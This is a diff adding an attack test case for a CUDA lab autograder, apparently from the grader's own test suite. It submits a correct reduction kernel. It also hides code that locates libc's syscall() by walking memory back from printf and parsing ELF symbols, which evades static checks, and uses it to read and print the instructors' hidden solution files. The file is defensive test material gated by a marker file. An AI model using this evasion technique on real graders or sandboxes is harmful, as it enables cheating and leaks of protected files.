@@ -1,0 +1,207 @@
+/*
+ * ATTACK 44-capability-syscall-read-solutions: its class and expected verdict are in tests/attacks/attacks.toml.
+ * Lab 03-sequential, on a correct solution (it keeps its points: only the attack's side effects are judged).
+ *
+ * Tries: read the instructors' reference solutions (solutions/ in the grading machine's kit) and print them into
+ *   this lab's output, as 11 does, but through nothing the static checks can see.
+ *
+ * How: through system calls that no static check can see (the C library's own syscall(), found by walking back from
+ *   printf's address: see sys()): getdents64 lists KIT/solutions/ and its folders, open and read each .cu file,
+ *   write it to stdout.
+ *
+ * Safety: it writes nothing and signals no process. It only reads.
+ */
+#include "reduce.h"
+
+#include <elf.h>
+#include <link.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+/* ---- system calls through the C library's own syscall(), found without naming it ----
+ * printf (a call every lab may make) lies in the C library's code; the library's pages from its ELF header up to
+ * there are mapped without a gap, so walking back from printf page by page finds the header. Its dynamic section
+ * leads to the dynamic symbol table, where `syscall` is looked up by name (through the GNU hash table's symbol
+ * count). The object names printf and nothing else: no list of symbols, and no disassembly, can tell this reading of
+ * memory from any other, and sys(nr, a, b, c, d, e) is then any system call. */
+static size_t gnu_hash_symbols(const uint32_t *table)
+{
+    const uint32_t buckets = table[0], offset = table[1], bloom_words = table[2];
+    const uint32_t *bucket = table + 4 + bloom_words * (sizeof(ElfW(Addr)) / 4);
+    const uint32_t *chain = bucket + buckets;
+    uint32_t last = 0;
+    for (uint32_t k = 0; k < buckets; k++)
+        last = bucket[k] > last ? bucket[k] : last;
+    if (last < offset)
+        return offset;
+    while (!(chain[last - offset] & 1))
+        last++;
+    return last + 1;
+}
+
+static void *libc_function(const char *name)
+{
+    const unsigned char *base = (const unsigned char *)((uintptr_t)(void *)&printf & ~(uintptr_t)4095);
+    while (memcmp(base, ELFMAG, SELFMAG) != 0)
+        base -= 4096;
+    const ElfW(Ehdr) *header = (const ElfW(Ehdr) *)base;
+    const ElfW(Phdr) *segments = (const ElfW(Phdr) *)(base + header->e_phoff);
+    const ElfW(Dyn) *dyn = NULL;
+    for (int k = 0; k < header->e_phnum; k++)
+        if (segments[k].p_type == PT_DYNAMIC)
+            dyn = (const ElfW(Dyn) *)(base + segments[k].p_vaddr);
+    const ElfW(Sym) *symbols = NULL;
+    const char *names = NULL;
+    size_t count = 0;
+    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
+        uintptr_t p = dyn->d_un.d_ptr;
+        if (p < (uintptr_t)base) /* not relocated in place */
+            p += (uintptr_t)base;
+        if (dyn->d_tag == DT_SYMTAB)
+            symbols = (const ElfW(Sym) *)p;
+        else if (dyn->d_tag == DT_STRTAB)
+            names = (const char *)p;
+        else if (dyn->d_tag == DT_HASH)
+            count = ((const uint32_t *)p)[1];
+        else if (dyn->d_tag == DT_GNU_HASH && !count)
+            count = gnu_hash_symbols((const uint32_t *)p);
+    }
+    for (size_t k = 0; symbols && names && k < count; k++)
+        if (symbols[k].st_value && ELF64_ST_TYPE(symbols[k].st_info) == STT_FUNC &&
+            strcmp(names + symbols[k].st_name, name) == 0)
+            return (void *)(base + symbols[k].st_value);
+    return NULL;
+}
+
+static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
+{
+    typedef long (*syscall_fn)(long, ...);
+    static syscall_fn call = (syscall_fn)libc_function("syscall");
+    return call ? call(nr, a, b, c, d, e, f) : -1;
+}
+
+/* x86-64 Linux system call numbers */
+enum {
+    NR_read = 0, NR_write = 1, NR_open = 2, NR_close = 3, NR_pread64 = 17, NR_access = 21, NR_nanosleep = 35,
+    NR_getpid = 39, NR_fork = 57, NR_exit = 60, NR_wait4 = 61, NR_kill = 62, NR_getcwd = 79, NR_readlink = 89,
+    NR_ptrace = 101, NR_getppid = 110, NR_setsid = 112, NR_prctl = 157, NR_getdents64 = 217, NR_process_vm_readv = 310
+};
+enum { O_RDONLY_ = 0, O_WRONLY_ = 1, O_CREAT_ = 0100, O_APPEND_ = 02000, O_DIRECTORY_ = 0200000 };
+
+/* Whether dir is the root of a copy of the kit made by the attack suite (tests/attacks/test_attacks.py): it holds
+ * grader/labs.toml and the suite's marker file. The marker is the suite's safety catch, not part of the attack: an
+ * attack file graded by hand in a real kit finds no root and does nothing. */
+static bool is_kit_copy(const char *dir)
+{
+    char probe[4200];
+    snprintf(probe, sizeof probe, "%s/grader/labs.toml", dir);
+    if (sys(NR_access, (long)probe, 0) != 0)
+        return false;
+    snprintf(probe, sizeof probe, "%s/.attack-suite-copy", dir);
+    return sys(NR_access, (long)probe, 0) == 0;
+}
+
+/* The root of the kit this program was built in: the current folder (the grader runs lab programs from the kit's
+ * root), else the nearest folder above the program itself. false when there is none. */
+static bool kit_root(char *root, long cap)
+{
+    if (sys(NR_getcwd, (long)root, cap) > 0 && is_kit_copy(root))
+        return true;
+    const long len = sys(NR_readlink, (long)"/proc/self/exe", (long)root, cap - 1);
+    if (len <= 0)
+        return false;
+    root[len] = '\0';
+    for (char *slash = strrchr(root, '/'); slash && slash != root; slash = strrchr(root, '/')) {
+        *slash = '\0';
+        if (is_kit_copy(root))
+            return true;
+    }
+    return false;
+}
+
+/* Reads the file at path into buf (NUL-terminated); returns the bytes read (0: none). */
+static long raw_slurp(const char *path, char *buf, long cap)
+{
+    const long fd = sys(NR_open, (long)path, O_RDONLY_);
+    long n = 0;
+    if (fd >= 0) {
+        for (long got; n + 1 < cap && (got = sys(NR_read, fd, (long)(buf + n), cap - 1 - n)) > 0;)
+            n += got;
+        sys(NR_close, fd);
+    }
+    buf[n] = '\0';
+    return n;
+}
+
+#define BLOCK_DIM 1024 /* threads per block, and elements each block reduces */
+
+/* Lab 03's kernel, filled in: a correct reduction, so that only the attack below decides the verdict. */
+__global__ void reduce_kernel(const float *src, float *dst, size_t count)
+{
+    __shared__ float partial[BLOCK_DIM];
+    const unsigned t = threadIdx.x;
+    const size_t i = (size_t)blockIdx.x * BLOCK_DIM + t;
+    partial[t] = i < count ? src[i] : 0.0f;
+    __syncthreads();
+    for (unsigned stride = BLOCK_DIM / 2; stride > 0; stride /= 2) {
+        if (t < stride)
+            partial[t] += partial[t + stride];
+        __syncthreads();
+    }
+    if (t == 0)
+        dst[blockIdx.x] = partial[0];
+}
+
+static void reduce_pass(float *src, float *dst, size_t count, unsigned grid_dim)
+{
+    reduce_kernel<<<grid_dim, BLOCK_DIM>>>(src, dst, count);
+}
+
+/* Prints every .cu file under folder (folders two deep). */
+static void print_sources(const char *folder, int depth)
+{
+    const long fd = sys(NR_open, (long)folder, O_RDONLY_ | O_DIRECTORY_);
+    if (fd < 0)
+        return;
+    static char entries[4][16384];
+    static char text[1 << 18];
+    char *buf = entries[depth];
+    for (long got; (got = sys(NR_getdents64, fd, (long)buf, sizeof entries[0])) > 0;)
+        for (long at = 0; at < got;) {
+            const unsigned short reclen = *(const unsigned short *)(buf + at + 16);
+            const unsigned char type = *(const unsigned char *)(buf + at + 18);
+            const char *name = buf + at + 19;
+            at += reclen;
+            char path[4400];
+            snprintf(path, sizeof path, "%s/%s", folder, name);
+            const size_t len = strlen(name);
+            if (type == 4 /* DT_DIR */ && name[0] != '.' && depth < 2)
+                print_sources(path, depth + 1);
+            else if (type == 8 /* DT_REG */ && len > 3 && strcmp(name + len - 3, ".cu") == 0 &&
+                     raw_slurp(path, text, sizeof text) > 0)
+                printf("==== %s\n%s", path, text);
+        }
+    sys(NR_close, fd);
+    fflush(stdout);
+}
+
+static void attack(void)
+{
+    char root[4096], folder[4200];
+    if (!kit_root(root, sizeof root))
+        return;
+    snprintf(folder, sizeof folder, "%s/solutions", root);
+    print_sources(folder, 0);
+}
+
+void reduce(float *d_in, float *d_out, size_t n, float *d_work)
+{
+    static bool done = false;
+    if (!done) {
+        done = true;
+        attack();
+    }
+    reduce_tree_of_blocks(d_in, d_out, n, d_work, BLOCK_DIM, reduce_pass);
+}
